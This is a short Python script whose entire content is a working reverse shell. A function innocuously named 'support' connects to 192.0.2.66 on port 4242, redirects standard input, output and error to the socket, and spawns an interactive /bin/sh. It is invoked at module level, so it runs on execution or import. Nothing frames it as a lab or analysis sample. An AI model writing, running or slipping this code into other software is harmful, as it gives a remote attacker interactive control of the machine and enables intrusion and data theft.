import os
import socket
import subprocess


def support():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.66", 4242))
    for descriptor in (0, 1, 2):
        os.dup2(s.fileno(), descriptor)
    subprocess.call(["/bin/sh", "-i"])


support()
